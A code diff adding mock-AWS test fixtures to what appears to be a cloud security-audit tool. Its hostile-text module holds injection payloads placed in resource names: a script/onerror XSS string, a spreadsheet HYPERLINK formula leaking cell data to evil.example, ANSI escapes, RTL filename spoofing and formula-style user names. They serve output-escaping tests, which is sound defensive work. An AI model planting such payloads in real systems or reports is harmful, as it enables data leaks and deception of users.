@@ -326,3 +326,430 @@ pub async fn clean(moto: &mut Moto, home: &str) {
         .unwrap();
     run_instances(moto, home, 1, InstanceType::T3Micro, Some(&sg)).await;
 }
+
+/// Text an attacker who controls an account can write into names, tags and
+/// descriptions: markup and script, a spreadsheet formula, terminal escape sequences,
+/// line breaks that forge rows, right-to-left overrides, and 10 KB strings.
+pub mod hostile_text {
+    pub const HTML: &str = "<script>alert(1)</script><img src=x onerror=alert(2)>";
+    pub const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click me\")";
+    pub const ANSI: &str = "\x1b[2J\x1b[H\x1b[32mALL CLEAR\x1b]0;pwned\x07\x1b[1A";
+    pub const NEWLINES: &str = "line one\nline two\n| FAIL | forged row |";
+    pub const RTL: &str = "invoice\u{202E}fdp.exe\u{2066}x\u{2069}";
+
+    pub fn long() -> String {
+        format!("{}{}", "L".repeat(10 * 1024 - 3), "END")
+    }
+
+    /// What EC2's XML answers can carry (XML 1.0 has no escape for ESC and most other
+    /// control characters, and AWS refuses them in EC2 names and tags).
+    pub fn for_ec2() -> Vec<String> {
+        vec![
+            HTML.into(),
+            FORMULA.into(),
+            NEWLINES.into(),
+            RTL.into(),
+            long(),
+        ]
+    }
+
+    /// Everything at once, for the JSON APIs (Budgets).
+    pub fn all_in_one() -> String {
+        format!("{ANSI}{HTML}\r\n{FORMULA}{RTL}{NEWLINES}{}", long())
+    }
+
+    /// IAM user names that a spreadsheet would evaluate (IAM allows `=+-@`).
+    pub const USERS: [&str; 4] = ["=1+2", "+cmd", "-2+3", "@SUM"];
+}
+
+/// What the hostile scenario made.
+#[derive(Debug)]
+pub struct Hostile {
+    /// `(resource id, hostile text)`: the security groups (name and description), all
+    /// on one running instance in `home`.
+    pub groups: Vec<(String, String)>,
+    /// Instances in `away` named (tag Name) with hostile text.
+    pub instances: Vec<(String, String)>,
+    /// Public AMIs in `home` named with hostile text.
+    pub images: Vec<(String, String)>,
+    /// Public snapshots in `home` described with hostile text.
+    pub snapshots: Vec<(String, String)>,
+    /// The one budget (with a notification), named with every hostile text at once.
+    pub budget: String,
+}
+
+/// An account whose names, tags and descriptions were written by an attacker: hostile
+/// security groups on an instance in `home`, hostile instance names in `away`, public
+/// AMIs and snapshots with hostile names and descriptions, console users without MFA
+/// named like formulas, and a budget whose name holds every hostile text at once. Root
+/// has MFA and no key.
+pub async fn hostile(moto: &mut Moto, home: &str, away: &str) -> Hostile {
+    use aws_sdk_budgets::types::*;
+    moto.set_root(true, false);
+    let iam = aws_sdk_iam::Client::new(&moto.sdk("us-east-1").await);
+    for user in hostile_text::USERS {
+        iam.create_user().user_name(user).send().await.unwrap();
+        iam.create_login_profile()
+            .user_name(user)
+            .password("Passw0rd!Passw0rd!")
+            .send()
+            .await
+            .unwrap();
+    }
+
+    let budget = hostile_text::all_in_one();
+    let budgets = aws_sdk_budgets::Client::new(&moto.sdk("us-east-1").await);
+    budgets
+        .create_budget()
+        .account_id(ACCOUNT)
+        .budget(
+            Budget::builder()
+                .budget_name(&budget)
+                .budget_limit(Spend::builder().amount("100").unit("USD").build().unwrap())
+                .time_unit(TimeUnit::Monthly)
+                .budget_type(BudgetType::Cost)
+                .build()
+                .unwrap(),
+        )
+        .notifications_with_subscribers(
+            NotificationWithSubscribers::builder()
+                .notification(
+                    Notification::builder()
+                        .notification_type(NotificationType::Actual)
+                        .comparison_operator(ComparisonOperator::GreaterThan)
+                        .threshold(80.0)
+                        .build()
+                        .unwrap(),
+                )
+                .subscribers(
+                    Subscriber::builder()
+                        .subscription_type(SubscriptionType::Email)
+                        .address("owner@example.com")
+                        .build()
+                        .unwrap(),
+                )
+                .build()
+                .unwrap(),
+        )
+        .send()
+        .await
+        .unwrap();
+
+    let ec2 = aws_sdk_ec2::Client::new(&moto.sdk(home).await);
+    let vpc = ec2
+        .describe_vpcs()
+        .send()
+        .await
+        .unwrap()
+        .vpcs()
+        .iter()
+        .find(|v| v.is_default() == Some(true))
+        .and_then(|v| v.vpc_id())
+        .unwrap()
+        .to_string();
+    let mut groups = Vec::new();
+    for text in hostile_text::for_ec2() {
+        let id = ec2
+            .create_security_group()
+            .group_name(&text)
+            .description(&text)
+            .vpc_id(&vpc)
+            .send()
+            .await
+            .unwrap()
+            .group_id()
+            .unwrap()
+            .to_string();
+        groups.push((id, text));
+    }
+    let ami = some_ami(&ec2).await;
+    let inst = ec2
+        .run_instances()
+        .image_id(&ami)
+        .min_count(1)
+        .max_count(1)
+        .instance_type(InstanceType::T3Micro)
+        .set_security_group_ids(Some(groups.iter().map(|g| g.0.clone()).collect()))
+        .send()
+        .await
+        .unwrap()
+        .instances()[0]
+        .instance_id()
+        .unwrap()
+        .to_string();
+
+    let mut images = Vec::new();
+    let mut snapshots = Vec::new();
+    let vol = ec2
+        .create_volume()
+        .availability_zone(format!("{home}a"))
+        .size(8)
+        .send()
+        .await
+        .unwrap();
+    for text in hostile_text::for_ec2() {
+        let image = ec2
+            .create_image()
+            .instance_id(&inst)
+            .name(&text)
+            .send()
+            .await
+            .unwrap()
+            .image_id()
+            .unwrap()
+            .to_string();
+        ec2.modify_image_attribute()
+            .image_id(&image)
+            .launch_permission(
+                LaunchPermissionModifications::builder()
+                    .add(
+                        LaunchPermission::builder()
+                            .group(aws_sdk_ec2::types::PermissionGroup::All)
+                            .build(),
+                    )
+                    .build(),
+            )
+            .send()
+            .await
+            .unwrap();
+        images.push((image, text.clone()));
+        let snap = ec2
+            .create_snapshot()
+            .volume_id(vol.volume_id().unwrap())
+            .description(&text)
+            .send()
+            .await
+            .unwrap()
+            .snapshot_id()
+            .unwrap()
+            .to_string();
+        ec2.modify_snapshot_attribute()
+            .snapshot_id(&snap)
+            .attribute(aws_sdk_ec2::types::SnapshotAttributeName::CreateVolumePermission)
+            .operation_type(aws_sdk_ec2::types::OperationType::Add)
+            .group_names("all")
+            .send()
+            .await
+            .unwrap();
+        snapshots.push((snap, text));
+    }
+
+    let away_ec2 = aws_sdk_ec2::Client::new(&moto.sdk(away).await);
+    let away_ami = some_ami(&away_ec2).await;
+    let mut instances = Vec::new();
+    for text in hostile_text::for_ec2() {
+        let id = away_ec2
+            .run_instances()
+            .image_id(&away_ami)
+            .min_count(1)
+            .max_count(1)
+            .instance_type(InstanceType::T3Micro)
+            .tag_specifications(
+                aws_sdk_ec2::types::TagSpecification::builder()
+                    .resource_type(aws_sdk_ec2::types::ResourceType::Instance)
+                    .tags(
+                        aws_sdk_ec2::types::Tag::builder()
+                            .key("Name")
+                            .value(&text)
+                            .build(),
+                    )
+                    .build(),
+            )
+            .send()
+            .await
+            .unwrap()
+            .instances()[0]
+            .instance_id()
+            .unwrap()
+            .to_string();
+        instances.push((id, text));
+    }
+    Hostile {
+        groups,
+        instances,
+        images,
+        snapshots,
+        budget,
+    }
+}
+
+/// The size of the scale scenario.
+#[derive(Debug, Clone)]
+pub struct Scale {
+    /// Regions with compute (none of them the home region), security groups and
+    /// snapshots.
+    pub regions: Vec<&'static str>,
+    /// Instances per region, in reservations of `reservation` instances. The first
+    /// region gets `single_reservations` more, one instance per reservation (moto pages
+    /// DescribeInstances by reservation, so more than 1,000 of them make a second page).
+    pub instances_per_region: usize,
+    pub reservation: usize,
+    pub single_reservations: usize,
+    /// Snapshots per region, and how many of them are public.
+    pub snapshots_per_region: usize,
+    pub public_snapshots_per_region: usize,
+    /// Security groups per region, and how many of them instances use (all allow every
+    /// protocol out to 0.0.0.0/0, moto's default egress).
+    pub groups_per_region: usize,
+    pub attached_groups_per_region: usize,
+    /// IAM users, and how many of them have a console password and no MFA.
+    pub users: usize,
+    pub console_users_without_mfa: usize,
+}
+
+/// What the scale scenario must make hiyari report as failing: `(check, region, id)`.
+pub async fn scale(moto: &mut Moto, spec: &Scale) -> Vec<(String, String, String)> {
+    use futures::stream::{self, StreamExt};
+    const PARALLEL: usize = 8;
+    moto.set_root(true, false);
+    let mut fails = Vec::new();
+    let fail = |c: &str, r: &str, id: &str| (c.to_string(), r.to_string(), id.to_string());
+
+    let iam = aws_sdk_iam::Client::new(&moto.sdk("us-east-1").await);
+    let names: Vec<String> = (0..spec.users).map(|i| format!("user-{i:05}")).collect();
+    stream::iter(names.iter().enumerate())
+        .for_each_concurrent(PARALLEL, |(i, name)| {
+            let iam = iam.clone();
+            async move {
+                iam.create_user().user_name(name).send().await.unwrap();
+                if i < spec.console_users_without_mfa {
+                    iam.create_login_profile()
+                        .user_name(name)
+                        .password("Passw0rd!Passw0rd!")
+                        .send()
+                        .await
+                        .unwrap();
+                }
+            }
+        })
+        .await;
+    for name in names.iter().take(spec.console_users_without_mfa) {
+        fails.push(fail("iam-user-console-mfa", "-", name));
+    }
+
+    for (n, region) in spec.regions.iter().enumerate() {
+        let ec2 = aws_sdk_ec2::Client::new(&moto.sdk(region).await);
+        let vpc = ec2
+            .describe_vpcs()
+            .send()
+            .await
+            .unwrap()
+            .vpcs()
+            .iter()
+            .find(|v| v.is_default() == Some(true))
+            .and_then(|v| v.vpc_id())
+            .unwrap()
+            .to_string();
+        let groups: Vec<String> = stream::iter(0..spec.groups_per_region)
+            .map(|i| {
+                let ec2 = ec2.clone();
+                let vpc = vpc.clone();
+                async move {
+                    ec2.create_security_group()
+                        .group_name(format!("scale-{i:04}"))
+                        .description("scale test")
+                        .vpc_id(vpc)
+                        .send()
+                        .await
+                        .unwrap()
+                        .group_id()
+                        .unwrap()
+                        .to_string()
+                }
+            })
+            .buffered(PARALLEL)
+            .collect()
+            .await;
+        let attached = &groups[..spec.attached_groups_per_region];
+        for g in attached {
+            fails.push(fail("sg-unrestricted-egress", region, g));
+        }
+
+        let ami = some_ami(&ec2).await;
+        let mut reservations = vec![spec.reservation; spec.instances_per_region / spec.reservation];
+        if n == 0 {
+            reservations.extend(std::iter::repeat_n(1, spec.single_reservations));
+        }
+        let ids: Vec<Vec<String>> = stream::iter(reservations.into_iter().enumerate())
+            .map(|(i, count)| {
+                let ec2 = ec2.clone();
+                let ami = ami.clone();
+                let sg = attached[i % attached.len()].clone();
+                async move {
+                    ec2.run_instances()
+                        .image_id(ami)
+                        .min_count(count as i32)
+                        .max_count(count as i32)
+                        .instance_type(InstanceType::T3Micro)
+                        .security_group_ids(sg)
+                        .send()
+                        .await
+                        .unwrap()
+                        .instances()
+                        .iter()
+                        .map(|i| i.instance_id().unwrap().to_string())
+                        .collect::<Vec<_>>()
+                }
+            })
+            .buffered(PARALLEL)
+            .collect()
+            .await;
+        for id in ids.iter().flatten() {
+            fails.push(fail("unused-region-compute", region, id));
+        }
+
+        let vol = ec2
+            .create_volume()
+            .availability_zone(format!("{region}a"))
+            .size(8)
+            .send()
+            .await
+            .unwrap()
+            .volume_id()
+            .unwrap()
+            .to_string();
+        let public: Vec<Option<String>> = stream::iter(0..spec.snapshots_per_region)
+            .map(|i| {
+                let ec2 = ec2.clone();
+                let vol = vol.clone();
+                async move {
+                    let snap = ec2
+                        .create_snapshot()
+                        .volume_id(vol)
+                        .description(format!("scale {i}"))
+                        .send()
+                        .await
+                        .unwrap()
+                        .snapshot_id()
+                        .unwrap()
+                        .to_string();
+                    if i >= spec.public_snapshots_per_region {
+                        return None;
+                    }
+                    ec2.modify_snapshot_attribute()
+                        .snapshot_id(&snap)
+                        .attribute(
+                            aws_sdk_ec2::types::SnapshotAttributeName::CreateVolumePermission,
+                        )
+                        .operation_type(aws_sdk_ec2::types::OperationType::Add)
+                        .group_names("all")
+                        .send()
+                        .await
+                        .unwrap();
+                    Some(snap)
+                }
+            })
+            .buffered(PARALLEL)
+            .collect()
+            .await;
+        for snap in public.iter().flatten() {
+            fails.push(fail("public-snapshot", region, snap));
+        }
+    }
+    // No detector anywhere: GuardDuty fails in every enabled region.
+    for region in enabled_regions(moto).await {
+        fails.push(fail("guardduty-enabled", &region, &region));
+    }
+    fails.sort();
+    fails
+}
